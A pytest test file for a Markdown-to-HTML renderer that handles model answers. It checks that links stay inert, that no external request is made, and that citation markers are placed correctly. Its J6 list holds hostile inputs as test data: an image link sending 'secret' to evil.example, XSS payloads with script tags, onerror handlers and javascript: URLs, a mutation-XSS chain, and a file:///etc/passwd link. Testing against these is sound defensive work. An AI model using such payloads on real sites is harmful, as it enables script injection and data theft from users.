"""Markdown to HTML; CASES.md J6, PROMISES.md P26 and P33."""

import re

import pytest

from gateway.web.rendering import numbered, render_markdown, render_plain

LOADING = "img iframe script style link svg object embed video audio source form input base meta"
LOADS = re.compile(rf"<({'|'.join(LOADING.split())})\b", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)

J6 = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    '<img src="https://evil.example/a.png">',
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg><image href='https://evil.example/x.svg'/></svg>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<div style=\"background:url('https://evil.example')\">x</div>",
    "```html\n<img src=https://evil.example>\n```",
    "<a href='https://evil.example' onclick='x()'>x</a>",
    "[x](https://evil.example \"title' onmouseover='x\")",
    "<iframe src=https://evil.example></iframe>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<button class="citation" data-citation="forged">[1]</button>',
    '<sup data-citation="forged">[1]</sup>',
    "\ue000" + "1" + "\ue001",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![[https://evil.example]](https://evil.example)",
]


@pytest.mark.parametrize("text", J6)
def test_no_text_of_a_model_loads_or_runs_anything(text):
    """CASES.md J6: links are inert or click-through, and no request leaves."""
    rendered = render_markdown(text)
    assert not LOADS.search(rendered)
    assert not EVENT_HANDLER.search(rendered)
    assert not re.search(r'(href|src)="(?!https?:|mailto:)', rendered)
    assert "data-citation" not in re.sub(r"&lt;.*?&gt;", "", rendered)


def test_a_link_opens_elsewhere_and_tells_nobody():
    rendered = render_markdown("[ici](https://docs.example/a)")
    assert 'href="https://docs.example/a"' in rendered
    assert 'rel="noopener noreferrer nofollow"' in rendered
    assert 'target="_blank"' in rendered


def test_citations_stand_where_the_answer_has_them():
    text = "Un fait. Un autre."
    rendered = render_markdown(text, ((8, "m.1"), (18, "m.2")))
    expected = 'Un fait.<sup data-citation="m.1">[1]</sup> Un autre.<sup data-citation="m.2">[2]</sup>'
    assert rendered == f"<p>{expected}</p>\n"


def test_a_citation_position_counts_code_points():
    """The proto's `position` is in Unicode code points, also past characters of two UTF-16 units."""
    assert render_markdown("👩‍👩‍👧 a", ((7, "m.1"),)) == '<p>👩‍👩‍👧 a<sup data-citation="m.1">[1]</sup></p>\n'


def test_the_same_source_keeps_its_number():
    rendered = render_markdown("a b c", ((1, "m.1"), (3, "m.2"), (5, "m.1")))
    assert re.findall(r"\[(\d)\]", rendered) == ["1", "2", "1"]


@pytest.mark.parametrize(
    ("text", "position"),
    [
        ("```\ncode\n```", 7),
        ("`code`", 3),
        ("[a](https://docs.example/path)", 20),
        ("**bold**", 1),
        ("![alt](https://x.example)", 4),
        ("text", 400),
        ("text", 0),
        ("- list\n- item", 6),
        ("| a | b |\n|---|---|\n| 1 | 2 |", 24),
        ("<b>raw</b>", 2),
        ("", 0),
    ],
)
def test_a_citation_is_never_lost_wherever_it_stands(text, position):
    """PROMISES.md P26: no true citation is dropped."""
    rendered = render_markdown(text, ((position, "m.1"),))
    assert rendered.count('<sup data-citation="m.1">[1]</sup>') == 1
    assert "\ue000" not in rendered
    assert "%EE%80" not in rendered


@pytest.mark.parametrize("fence", ["```", "~~~~", "  ```"])
def test_a_citation_behind_code_leaves_the_code_closed_and_stands_below_it(fence):
    """`extractive` sets the marker below a sample; the spaces between close up, so that it stands behind the fence."""
    text = f"Run:\n\n{fence}\nmake run\n{fence}\n\nThen look."
    position = text.index("\n\nThen")
    rendered = render_markdown(text, ((position, "m.1"), (position, "m.2"), (len(text), "m.3")))
    below = '<p><sup data-citation="m.1">[1]</sup><sup data-citation="m.2">[2]</sup></p>'
    assert f"<pre><code>make run\n</code></pre>\n{below}\n<p>Then look.<sup" in rendered


def test_an_id_cannot_break_out_of_its_attribute():
    rendered = render_markdown("a", ((1, '"><script>x</script>'),))
    assert not LOADS.search(rendered)


def test_numbers_follow_the_text_and_not_the_list():
    assert numbered([(9, "b"), (2, "a")]) == {"a": 1, "b": 2}


def test_what_a_person_wrote_is_shown_as_they_wrote_it():
    assert render_plain("**a** <b>\nline\r\n\r\nnext") == "<p>**a** &lt;b&gt;<br>line</p><p>next</p>"


def test_tables_and_lists_are_kept():
    rendered = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n3. x\n")
    assert "<td>1</td>" in rendered
    assert '<ol start="3">' in rendered
